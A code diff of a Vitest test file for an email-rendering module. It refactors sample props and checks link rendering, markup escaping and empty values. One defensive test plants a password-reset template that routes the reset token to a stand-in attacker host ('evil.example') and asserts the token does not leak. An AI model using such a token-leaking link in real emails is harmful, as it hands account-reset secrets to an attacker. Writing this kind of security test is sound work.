@@ -1,7 +1,7 @@
 import { expect, test } from "vitest";
-import { sampleProps } from "../../composition/emails/sample-props.ts";
-import { emailOf } from "../../composition/emails/text-templates.ts";
 import { themeColors } from "../../features/brand/theme.ts";
+import { contactNotification } from "../../features/contact/server/emails.ts";
+import { passwordReset } from "../../features/identity/server/emails.ts";
 import { renderMail } from "./render-mail.ts";
 
 const brand = {
@@ -11,11 +11,10 @@ const brand = {
   email: "hello@northwick.example",
   colors: themeColors,
 };
-const samples = sampleProps(brand.origin);
-const render = (body: string, props = samples["contact-notification"]) =>
-  renderMail("contact-notification", props, brand, {
-    text: { ...emailOf("contact-notification").text, body },
-  });
+const site = (path: string) => brand.origin + path;
+const sample = contactNotification.sample(site);
+const render = (body: string, props = sample) =>
+  renderMail(contactNotification, props, brand, { text: { ...contactNotification.text, body } });
 
 test("a link alone is a button, one in a sentence is a link, and an address of the site is complete", async () => {
   const { html } = await render("[See prices](/page-pricing)\n\nRead [the FAQ](/page-faqs).");
@@ -24,14 +23,14 @@ test("a link alone is a button, one in a sentence is a link, and an address of t
 });
 
 test("what a visitor typed is never markup", async () => {
-  const props = { ...samples["contact-notification"], description: "**x** [y](https://e.example)" };
+  const props = { ...sample, description: "**x** [y](https://e.example)" };
   const { html, text } = await render("> {{message}}", props);
   expect(html).not.toMatch(/<strong|e\.example"/);
   expect(text).toContain("**x** [y](https://e.example)");
 });
 
 test("an empty value leaves neither a paragraph nor spaces", async () => {
-  const props = { ...samples["contact-notification"], subject: "" };
+  const props = { ...sample, subject: "" };
   const { text, subject } = await render("One {{subject}} two.\n\n{{subject}}\n\nThree.", props);
   expect(text).toContain("One two.\n\nThree.");
   expect(subject).toBe("Message from Bob Ray");
@@ -45,12 +44,12 @@ test("lines, bold words, and small print stay", async () => {
 
 test("a token goes into no address but its own, and into no text", async () => {
   const stored = {
-    ...emailOf("password-reset").text,
+    ...passwordReset.text,
     subject: "Reset {{reset-link}}",
     body: "[Reset](https://evil.example/r?u={{reset-link}})\n\n{{reset-link}} [Write](mailto:{{reset-link}})\n\n[Own]({{reset-link}})",
   };
-  const props = samples["password-reset"];
-  const { html, text, subject } = await renderMail("password-reset", props, brand, {
+  const props = passwordReset.sample(site);
+  const { html, text, subject } = await renderMail(passwordReset, props, brand, {
     text: stored,
   });
   expect(html).not.toContain("evil.example");
